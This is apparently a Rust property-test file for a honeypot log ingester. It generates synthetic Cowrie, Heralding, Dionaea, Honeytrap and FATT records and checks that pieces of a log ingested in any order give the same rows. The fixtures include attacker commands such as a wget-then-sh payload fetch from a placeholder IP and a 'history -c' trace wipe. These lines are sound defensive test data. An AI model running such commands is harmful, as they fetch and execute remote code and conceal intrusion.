//! Any pieces of a log, in any order, overlapping and repeated, give the rows that the log gives.

use proptest::prelude::*;
use proptest::sample::Index;

use super::behaviour::{PASTED, TYPED, recording};
use super::*;

/// One row of a made-up log: who, which session, when, and what.
#[derive(Clone, Debug)]
struct Line {
    ip: u8,
    session: u8,
    sensor: u8,
    second: u32,
    what: u8,
    value: u8,
}

impl Line {
    fn text(&self) -> String {
        let Self { ip, session, sensor, second, what, value } = self;
        let value = usize::from(*value);
        let pick = |from: &[&str]| from[value % from.len()].to_owned();
        let credential = [
            "root\",\"password\":\"123456",
            "admin\",\"password\":\"",
            "\",\"password\":\"x",
            "p\\u0000\",\"password\":\"y\\u0000",
        ];
        let (event, more) = match what % 13 {
            0 => ("session.connect", pick(&[r#","protocol":"ssh""#, r#","protocol":"telnet""#, r#","dst_port":2222"#, r#","dst_port":"23""#, ""])),
            1 => ("client.version", format!(",\"version\":\"{}\"", pick(&["SSH-2.0-Go", "b'SSH-2.0-x'", "GET / HTTP/1.1"]))),
            2 => ("client.kex", format!(",\"hassh\":\"{}\"", pick(&["51cba57125523ce4b9db67714a90bf6e", "4e066189c3bbeec38c99b1855113733a"]))),
            3 => ("login.failed", format!(",\"username\":\"{}\"", pick(&credential))),
            4 => ("login.success", format!(",\"username\":\"{}\"", pick(&credential))),
            5 => ("login.failed", pick(&[r#","username":null,"password":"x""#, r#","username":"root","fingerprint":"d4:98:c4:f3:12:ef:3e:29:38:34:62:21:fd:99:ec:ef""#])),
            6..=8 => ("command.input", format!(",\"input\":\"{}\"", pick(&["uname -a", "w", " w ", "", "wget http://198.51.100.7/x; sh x", "\\u0000", "rm x; w; history -c"]))),
            9 => ("session.file_download", r#","shasum":"b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c","url":"http://198.51.100.7/x""#.to_owned()),
            10 => ("direct-tcpip.request", pick(&[r#","dst_ip":"198.51.100.25","dst_port":25"#, r#","dst_ip":"mail.example.org","dst_port":25,"protocol":"ssh""#])),
            11 => ("log.closed", format!(",\"ttylog\":\"log/tty/{}\"{}", pick(&[TYPED, PASTED, "missing"]), pick(&["", r#","duplicate":true"#]))),
            _ => ("session.closed", String::new()),
        };
        // Seconds run over a few days, so that sessions do too.
        let (day, second) = (28 + second / 86_400, second % 86_400);
        format!(
            "{{\"eventid\":\"cowrie.{event}\",\"session\":\"s{session}\",\"src_ip\":\"203.0.113.{ip}\",\"sensor\":\"pot-{sensor}\",\
             \"timestamp\":\"2022-05-{day:02}T{:02}:{:02}:{:02}.00000{}Z\"{more}}}\n",
            second / 3_600,
            second / 60 % 60,
            second % 60,
            value % 3,
        )
    }
}

fn line() -> impl Strategy<Value = Line> {
    (0..3_u8, 0..4_u8, 0..2_u8, prop_oneof![0..20_u32, 0..250_000_u32], any::<u8>(), any::<u8>())
        .prop_map(|(ip, session, sensor, second, what, value)| Line {
            ip,
            session,
            sensor,
            second,
            what,
            value,
        })
}

#[test]
fn commands_of_one_moment_have_one_order_whatever_their_hashes() {
    let row = |input: u32| {
        format!(
            "{{\"eventid\":\"cowrie.command.input\",\"session\":\"s\",\"src_ip\":\"203.0.113.9\",\
             \"timestamp\":\"2022-05-28T00:00:00Z\",\"input\":\"{input}\"}}\n"
        )
    };
    // Of one sign as the database's numbers have it, and of the other.
    let is_large =
        |row: &str| corral::ingest::sighting::hash(row.trim_end().as_bytes()) > i64::MAX as u64;
    let small = (0..).map(row).find(|row| !is_large(row)).unwrap();
    let large = (0..).map(row).find(|row| is_large(row)).unwrap();
    let at_once = Place::new();
    at_once.ingest(&[at_once.put("log.json", format!("{small}{large}"))]);
    for order in [[&small, &large], [&large, &small]] {
        let place = Place::new();
        for (at, row) in order.into_iter().enumerate() {
            place.ingest(&[place.put(&format!("{at}.json"), row)]);
        }
        assert_eq!(place.dump(), at_once.dump());
    }
}

/// Pieces of a log: each says which lines it holds, in which order.
fn pieces() -> impl Strategy<Value = Vec<Vec<Index>>> {
    prop::collection::vec(prop::collection::vec(any::<Index>(), 0..30), 0..4)
}

/// Checks that `lines` in pieces give the rows that they give at once.
fn check(
    format: Format,
    lines: &[String],
    pieces: &[Vec<Index>],
    rest: Index,
    config: &IngestConfig,
) -> Result<(), TestCaseError> {
    let at_once = Place::new();
    for name in [TYPED, PASTED] {
        at_once.put(&format!("tty/{name}"), recording(name));
    }
    let path = at_once.put("log.json", lines.concat());
    at_once.ingest_as(format, &IngestConfig::default(), &[path]);

    let place = Place::new();
    // Some pieces, then everything from some line on, then backwards what is missing, then all again.
    let mut files: Vec<String> = pieces
        .iter()
        .map(|piece| piece.iter().map(|at| lines[at.index(lines.len())].as_str()).collect())
        .collect();
    files.push(lines[rest.index(lines.len())..].concat());
    files.push(lines.iter().rev().map(String::as_str).collect());
    let mut before = Vec::new();
    for (at, file) in files.iter().enumerate() {
        // Recordings are copied when half of it is read.
        if at == files.len() / 2 {
            for name in [TYPED, PASTED] {
                place.put(&format!("{name}.gz"), gzip(&recording(name)));
            }
        }
        let path = place.put(&format!("{at}.json"), file);
        place.ingest_as(format, config, &[path]);
        before = place.dump();
    }
    let expected = at_once.dump();
    let only = |a: &[String], b: &[String]| {
        a.iter().filter(|row| !b.contains(row)).cloned().collect::<Vec<_>>()
    };
    prop_assert!(
        before == expected,
        "{:#?} instead of {:#?}",
        only(&before, &expected),
        only(&expected, &before)
    );
    let all: Vec<PathBuf> = (0..files.len()).map(|at| place.path(&format!("{at}.json"))).collect();
    let exact = place.exact_dump();
    place.ingest_as(format, config, &all);
    prop_assert_eq!(place.exact_dump(), exact);
    Ok(())
}

/// A row of another sensor's log, of few sessions, so that rows meet in one.
fn sensor_row(format: Format, line: &Line) -> String {
    let Line { ip, session, sensor, second, what, value } = line;
    let (from, pick) =
        (40_000 + u32::from(*session), |from: [&'static str; 4]| from[usize::from(*value) % 4]);
    let at = format!("2022-05-28 00:00:{:02}.00000{sensor}", second % 4);
    let text = match format {
        Format::Cowrie => line.text(),
        Format::Heralding => format!(
            r#"{{"timestamp":"{at}","duration":{second},"session_id":"s{session}","source_ip":"203.0.113.{ip}","protocol":"{}","auth_attempts":[{}],"session_ended":true}}"#,
            pick(["vnc", "VNC", "pop3", "socks5"]),
            pick([
                "",
                r#"{"username":null,"password":null}"#,
                r#"{"username":null,"password":"x"},{"username":null,"password":"x"}"#,
                r#"{"timestamp":"2022-05-29 00:00:00","username":"u","password":""}"#,
            ]),
        ),
        Format::Dionaea => format!(
            r#"{{"connection":{{"protocol":"{}","transport":"tcp","type":"accept"}},"dst_ip":"172.30.0.2","dst_port":21,"src_ip":"::ffff:203.0.113.{ip}","src_port":{from},"timestamp":"{at}"{}}}"#,
            pick(["ftpd", "smbd", "ftpd", "mssqld"]),
            [
                "",
                r#","credentials":{"username":["sa","sa"],"password":["",""]}"#,
                r#","credentials":{"password":["x",""],"username":["sa"]}"#,
                r#","ftp":{"commands":{"command":["USER","PWD","PWD"],"arguments":["a","",""]}}"#,
            ][usize::from(*what) % 4],
        ),
        Format::Honeytrap => format!(
            r#"{{ "start_time": "{at}", "end_time": "{}", "attack_connection": {{ "remote_ip": "203.0.113.{ip}", "remote_port": {from}, "local_ip": "10.0.0.2", "local_port": 23, "payload": {{ {} }} }} }},"#,
            pick(["1970-01-01T00:00:00Z", "2022-05-28T00:00:09Z", "2022-05-27T00:00:00Z", "x"]),
            [
                r#""length": 0, "data_hex": """#,
                r#""length": 2, "data_hex": "0102""#,
                r#""length": 1, "data_hex": "ff""#,
                r#""length": 9, "data_hex": "ff""#,
            ][usize::from(*what) % 4],
        ),
        Format::Fatt => format!(
            r#"{{"timestamp":"{at}","sourceIp":"203.0.113.{ip}","destinationIp":"{}","sourcePort":"{from}","destinationPort":"443","protocol":"{}",{}}}"#,
            pick(["10.182.0.11", "10.182.0.11", "10.182.0.12", "198.51.100.1"]),
            pick(["tls", "ssh", "http", "tls"]),
            [
                r#""ssh":{"client":"SSH-2.0-Go","hassh":"51cba57125523ce4b9db67714a90bf6e"}"#,
                r#""tls":{"ja3":"cc8870c5053e89c025176af1201dd122"}"#,
                r#""tls":{"ja3":"dd8870c5053e89c025176af1201dd122"}"#,
                r#""http":{}"#,
            ][usize::from(*what) % 4],
        ),
    };
    text.trim_end().to_owned() + "\n"
}

/// The lines of a real log of that sensor, if one is at hand.
fn real(format: Format) -> Vec<String> {
    let log = fs::read_to_string(uqo(&format!("{}.json", format.name()))).unwrap_or_default();
    log.split_inclusive('\n').map(str::to_owned).collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, max_shrink_iters: 100, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_pieces_in_any_order_give_the_same_rows(
        log in prop::collection::vec(line(), 1..60),
        pieces in pieces(),
        rest in any::<prop::sample::Index>(),
        batch_bytes in prop_oneof![Just(1_usize), 200..2_000_usize, Just(1 << 24)],
        sessions in 1..5_usize,
    ) {
        let lines: Vec<String> = log.iter().map(Line::text).collect();
        let config = IngestConfig { batch_bytes, open_sessions_max: sessions, ..IngestConfig::default() };
        check(Format::Cowrie, &lines, &pieces, rest, &config)?;
    }

    #[test]
    fn the_same_is_true_of_every_sensor(
        format in prop::sample::select(&Format::ALL[1..]),
        log in prop::collection::vec(line(), 1..40),
        some in prop::collection::vec(any::<Index>(), 0..20),
        pieces in pieces(),
        rest in any::<Index>(),
        batch_bytes in prop_oneof![Just(1_usize), 200..2_000_usize, Just(1 << 24)],
    ) {
        let mut lines: Vec<String> = log.iter().map(|line| sensor_row(format, line)).collect();
        let real = real(format);
        // The bracket that opens a log would make the rows those of an array, as far as it is the first.
        let rows = some.iter().filter(|_| !real.is_empty()).map(|at| real[at.index(real.len())].replace("[{\"c", "{\"c"));
        lines.extend(rows.filter(|row| !row.starts_with("{\"attacks\"")));
        let config = IngestConfig { batch_bytes, ..IngestConfig::default() };
        check(format, &lines, &pieces, rest, &config)?;
    }
}
